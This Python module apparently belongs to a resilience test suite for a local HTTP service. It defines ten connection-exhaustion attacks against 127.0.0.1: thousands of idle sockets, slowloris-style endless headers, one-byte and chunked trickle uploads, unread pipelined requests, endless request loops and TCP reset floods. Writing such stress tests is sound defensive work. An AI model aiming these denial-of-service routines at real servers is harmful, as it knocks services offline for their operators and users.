"""Attacks with connections: clients that send or read nothing, send in tiny pieces, or ask without end."""

from __future__ import annotations

import contextlib
import selectors
import socket
import struct
import time
from collections.abc import Callable
from typing import cast

PATIENCE_S = 10.0
PAUSE_S = 1.0
RESET = struct.pack("ii", 1, 0)  # SO_LINGER: a close drops the connection
PAGE = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
METRICS = PAGE.replace(b"/ ", b"/metrics ")
UPLOAD = b"POST /predict HTTP/1.1\r\nHost: x\r\n"
CHUNKED = UPLOAD + b"Transfer-Encoding: chunked\r\n\r\n"
ANNOUNCED = UPLOAD + b"Content-Length: 10000000\r\n\r\n"
HEAD = b"GET / HTTP/1.1\r\nX: "


def connect(port: int, number: int) -> list[socket.socket]:
    """Connect so many clients, of which each socket waits for nothing from then on."""
    clients = []
    for _ in range(number):
        with contextlib.suppress(OSError):
            client = socket.create_connection(("127.0.0.1", port), timeout=PATIENCE_S)
            client.setblocking(False)
            clients.append(client)
    return clients


def idle(port: int) -> None:
    """3,000 connections without a request."""
    _clients = connect(port, 3000)
    time.sleep(60)


def bytes_once(port: int) -> None:
    """3,000 uploads of one byte, and no more."""
    send_once(port, 3000, ANNOUNCED + b"x")


def half_heads(port: int) -> None:
    """3,200 heads of 30 kB without an end, anew where they are closed."""
    send_once(port, 3200, b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X: %s\r\n" % (b"y" * 600) * 50)


def send_once(port: int, number: int, sent: bytes) -> None:
    """Connect, send, and do nothing more; begin anew where a connection is over."""
    clients: list[socket.socket] = []
    while True:
        anew = connect(port, number - len(clients))
        for client in anew:
            with contextlib.suppress(OSError):
                client.send(sent)
        clients = [client for client in (*clients, *anew) if not is_over(client)]
        time.sleep(PAUSE_S)


def is_over(client: socket.socket) -> bool:
    """Tell whether a connection has been answered or closed, and close it then."""
    try:
        client.recv(1)
    except BlockingIOError:
        return False
    except OSError:
        pass
    client.close()
    return True


def unread(port: int) -> None:
    """500 clients that ask for 200 pages each, and read none."""
    clients = connect(port, 500)
    for client in clients:
        with contextlib.suppress(OSError):
            client.send(PAGE * 200)
    time.sleep(60)


def metrics(port: int) -> None:
    """4 connections that ask for /metrics without end."""
    ask_without_end(port, 4, METRICS)


def pages(port: int) -> None:
    """64 connections that ask for the page without end."""
    ask_without_end(port, 64, PAGE)


def ask_without_end(port: int, number: int, request: bytes) -> None:
    """Ask anew whenever an answer comes."""
    with selectors.DefaultSelector() as selector:
        for client in connect(port, number):
            client.send(request)
            selector.register(client, selectors.EVENT_READ)
        while True:
            for key, _ in selector.select():
                client = cast(socket.socket, key.fileobj)
                with contextlib.suppress(OSError):
                    if client.recv(1_000_000).endswith((b"\n", b"0\r\n\r\n")):
                        client.send(request)


def chunks(port: int) -> None:
    """64 uploads in chunks of one byte, as fast as they are taken."""
    send_without_end(port, 64, CHUNKED, b"1\r\nx\r\n" * 10_000)


def bytes_alone(port: int) -> None:
    """64 uploads, a byte at a time."""
    send_without_end(port, 64, ANNOUNCED, b"x")


def heads(port: int) -> None:
    """64 heads that never end, a byte at a time."""
    send_without_end(port, 64, HEAD, b"x")


def send_without_end(port: int, number: int, first: bytes, piece: bytes) -> None:
    """Send a piece whenever it is taken, and begin anew where the connection is over."""
    with selectors.DefaultSelector() as selector:

        def begin() -> None:
            for client in connect(port, 1):
                client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                client.send(first)
                selector.register(client, selectors.EVENT_WRITE, [b""])

        for _ in range(number):
            begin()
        while True:
            for key, _ in selector.select():
                client, rest = cast(socket.socket, key.fileobj), key.data
                try:
                    rest[0] = rest[0] or piece
                    rest[0] = rest[0][client.send(rest[0]) :]
                except OSError:
                    selector.unregister(client)
                    client.close()
                    begin()


def resets(port: int) -> None:
    """500 clients at a time that connect and reset."""
    while True:
        for client in connect(port, 500):
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            client.close()


CONNECTION_ATTACKS: dict[str, Callable[[int], None]] = {
    attack.__name__: attack
    for attack in (idle, bytes_once, half_heads, unread, metrics, pages, chunks, bytes_alone, heads, resets)
}
